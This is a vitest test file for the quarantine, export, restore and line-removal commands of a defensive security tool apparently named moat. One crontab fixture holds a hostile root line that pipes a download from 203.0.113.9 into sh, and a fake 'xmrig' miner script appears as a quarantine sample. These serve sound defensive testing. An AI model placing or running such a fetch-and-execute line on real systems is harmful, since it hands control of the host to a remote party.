import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks } from '../need.ts';
import { everything } from '../scenes/files.ts';
import { moatBin, onlyLog, removeFolder, startMoat, type RunningMoat } from './moat.ts';

describe.skipIf(lacks({ root: true, files: ['/usr/bin/python3'] }))('moat quarantine', () => {
  let moat: RunningMoat, here: string;
  const args = (...more: string[]): string[] => [moatBin, '--data', join(moat.folder, 'data'), '--lang', 'en', ...more];
  const cli = (...more: string[]): Record<string, unknown>[] => execFileSync(process.execPath, args(...more, '--json')).toString().trim().split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, unknown>);

  beforeAll(async () => {
    const folder = mkdtempSync(join(tmpdir(), 'moat-files-'));
    here = mkdtempSync(join(tmpdir(), 'moat-evil-'));
    const log = join(folder, 'auth.log');
    writeFileSync(log, '');
    moat = await startMoat(onlyLog(log), { folder });
  }, 60_000);
  afterAll(async () => {
    await moat?.stop();
    if (moat) removeFolder(moat.folder);
    rmSync(here, { recursive: true, force: true });
  });

  it('takes files away, lists them, hands them to an analyst and puts them back', async () => {
    const path = join(here, 'xmrig'), content = '#!/bin/sh\necho mining\n';
    writeFileSync(path, content);
    chmodSync(path, 0o4755);
    const before = await everything(here);
    expect(cli('quarantine', path, '--plan')).toMatchObject([{ target: path, risk: 'low' }]);
    expect(await everything(here)).toEqual(before);
    const [receipt] = cli('quarantine', path, '--why', 'a miner');
    expect(receipt).toMatchObject({ action: 'quarantine-file', status: 'applied', why: 'a miner' });
    expect(existsSync(path)).toBe(false);
    const [row, ...rest] = cli('quarantine', 'list');
    expect(rest).toEqual([]);
    expect(row).toMatchObject({ path, status: 'applied', receipt: receipt?.['id'], size: content.length, why: 'a miner' });
    const id = String(row?.['id']);
    expect(execFileSync(process.execPath, args('quarantine', 'cat', id)).toString()).toBe(content);
    const zip = join(moat.folder, 'out.zip');
    execFileSync(process.execPath, args('quarantine', 'export', id, zip));
    expect(readFileSync(zip).includes('mining')).toBe(false);
    expect(execFileSync('/usr/bin/python3', ['-c', 'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); sys.stdout.buffer.write(z.read(z.namelist()[0], pwd=b"infected"))', zip]).toString()).toBe(content);
    // What is there already is not overwritten.
    expect(spawnSync(process.execPath, args('quarantine', 'export', id, zip)).status).not.toBe(0);
    expect(cli('restore', id)).toMatchObject([{ status: 'undone' }]);
    expect(await everything(here)).toEqual(before);
    expect(cli('quarantine', 'list')).toMatchObject([{ id, status: 'undone' }]);
  });

  it('refuses what a package ships, what the machine needs and its own, and goes on with the rest', () => {
    const path = join(here, 'other');
    writeFileSync(path, 'x');
    const shipped = '/usr/share/doc/libc6/copyright';
    const result = spawnSync(process.execPath, args('quarantine', ...existsSync(shipped) ? [shipped] : [], '/bin/sh', join(moat.folder, 'data/moat.db'), here, path, '--json'));
    expect(result.status).toBe(1);
    const lines = result.stdout.toString().trim().split('\n').map((line) => JSON.parse(line) as { done?: boolean; hint?: string; status?: string });
    expect(lines.at(-1)).toMatchObject({ status: 'applied' });
    for (const line of lines.slice(0, -1)) expect(line.done).toBe(false);
    if (existsSync(shipped)) expect(lines[0]?.hint).toBe('--force');
    expect(existsSync('/bin/sh') && !existsSync(path)).toBe(true);
  });

  it('removes one line and puts it back', () => {
    const path = join(here, 'crontab'), text = 'a\n* * * * * root curl http://203.0.113.9/x | sh\nb\n';
    writeFileSync(path, text);
    expect(spawnSync(process.execPath, args('remove-line', path, '2')).status).not.toBe(0);
    expect(readFileSync(path, 'utf8')).toBe(text);
    const [receipt] = cli('remove-line', path, '2', '--yes');
    expect(readFileSync(path, 'utf8')).toBe('a\nb\n');
    cli('restore', String(receipt?.['id']));
    expect(readFileSync(path, 'utf8')).toBe(text);
    expect(cli('audit', 'verify')).toMatchObject([{ faults: [] }]);
  });

  it('lists what is there when no agent runs', async () => {
    await moat.stop();
    expect(cli('quarantine', 'list').length).toBe(3);
  });
});
